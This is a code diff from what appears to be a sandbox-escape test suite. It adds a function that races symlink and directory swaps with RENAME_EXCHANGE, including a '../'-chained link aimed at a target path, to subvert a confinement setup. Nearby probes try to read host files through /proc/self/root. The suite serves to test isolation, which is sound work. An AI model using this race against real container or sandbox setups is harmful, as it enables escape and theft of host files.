@@ -153,6 +153,34 @@ static int mknod_dev(const struct ctx *c)
 	return blocked("mknod: %s", ename(errno));
 }
 
+/* Not a probe of its own: the attacker half of escape_suite.sh's setup race.
+ * In DIR, swaps entry `x` (a directory) with `y` (a symlink to LINK) and
+ * `z` with `w` (a relative link walking up to LINK) with RENAME_EXCHANGE,
+ * as fast as it can, until DIR/stop appears. */
+int swap_loop(const char *dir, const char *link)
+{
+	char up[4096] = "", p[4200], q[4200];
+	for (int i = 0; i < 32; i++) strcat(up, "../");
+	strncat(up, link[0] == '/' ? link + 1 : link, sizeof(up) - strlen(up) - 1);
+	snprintf(p, sizeof(p), "%s/x", dir); mkdir(p, 0755);
+	snprintf(p, sizeof(p), "%s/z", dir); mkdir(p, 0755);
+	snprintf(p, sizeof(p), "%s/y", dir); if (symlink(link, p)) return broken("symlink: %s", ename(errno));
+	snprintf(p, sizeof(p), "%s/w", dir); if (symlink(up, p)) return broken("symlink: %s", ename(errno));
+	snprintf(q, sizeof(q), "%s/ready", dir); close(open(q, O_WRONLY | O_CREAT | O_CLOEXEC, 0644));
+	long swaps = 0;
+	char x[4200], y[4200], z[4200], w[4200], stop[4200];
+	snprintf(x, sizeof(x), "%s/x", dir); snprintf(y, sizeof(y), "%s/y", dir);
+	snprintf(z, sizeof(z), "%s/z", dir); snprintf(w, sizeof(w), "%s/w", dir);
+	snprintf(stop, sizeof(stop), "%s/stop", dir);
+	while (access(stop, F_OK) != 0) {
+		for (int i = 0; i < 64; i++) {
+			if (renameat2(AT_FDCWD, x, AT_FDCWD, y, RENAME_EXCHANGE) == 0) swaps++;
+			if (renameat2(AT_FDCWD, z, AT_FDCWD, w, RENAME_EXCHANGE) == 0) swaps++;
+		}
+	}
+	return swaps ? blocked("%ld swaps done", swaps) : broken("renameat2: %s", ename(errno));
+}
+
 static const struct probe probes[] = {
 	{"files_secret_by_name", "host files", C_HOST, "read an unbound host file of the caller by its path", secret_by_name},
 	{"files_proc_self_root", "host files", C_HOST, "read it through /proc/self/root", secret_via_proc_root},
